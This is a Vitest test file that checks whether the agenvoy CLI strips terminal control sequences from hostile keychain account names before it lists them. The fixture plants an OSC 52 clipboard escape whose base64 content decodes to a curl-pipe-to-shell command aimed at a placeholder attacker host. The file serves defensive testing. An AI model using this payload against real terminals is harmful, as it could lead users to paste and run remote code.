// A hostile key name in the keychain (docs/secrets.md, "Other programs' items"): `agenvoy secrets list` lists items
// other programs stored under service=agenvoy, and any program the user runs may store one — an MCP server, a
// command run unconfined. Its account name went to the terminal as it was, so a name holding control sequences
// (OSC 52 sets the clipboard, others repaint the screen or retitle the window) ran them when the person listed their
// keys; such a name is not a key the store can ever read. Through `agenvoy secrets list` on a real Secret Service.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './testing/cli-harness';
import { SECRET_SERVICE } from '../secrets/secret-tool';
import type { PrivateBus } from '../secrets/testing/private-bus';
import { startKeyringSession } from '../secrets/testing/keyring-session';

let session: PrivateBus;
let root: string;

beforeAll(async () => {
  session = await startKeyringSession();
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'agenvoy-list-attack-')));
});

afterAll(async () => {
  await session?.stop();
  fs.rmSync(root, { recursive: true, force: true });
});

// What another program does: `secret-tool store` under service=agenvoy with an account of its choosing.
function foreignStore(account: string, value: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      'secret-tool',
      ['store', '--label', 'x', 'service', SECRET_SERVICE, 'account', account],
      {
        stdio: ['pipe', 'ignore', 'pipe'],
      },
    );
    let stderr = '';
    child.stderr.on('data', (chunk) => (stderr += chunk));
    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(`secret-tool store: ${stderr}`))));
    child.stdin.end(value);
  });
}

describe('agenvoy secrets list with a hostile name in the keychain', () => {
  it('prints no control sequence, and still lists the real keys', async () => {
    await foreignStore('GOOD_TOKEN', 'good-value-12345');
    await foreignStore(
      'X\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007\u001b[2J',
      'hostile-1234',
    );
    const run = await runCli(['secrets', 'list'], {
      home: path.join(root, 'agenvoy'),
      cwd: root,
      env: { HOME: root, DBUS_SESSION_BUS_ADDRESS: process.env.DBUS_SESSION_BUS_ADDRESS ?? '' },
    });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('GOOD_TOKEN');
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    expect(run.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u);
  }, 60_000);
});
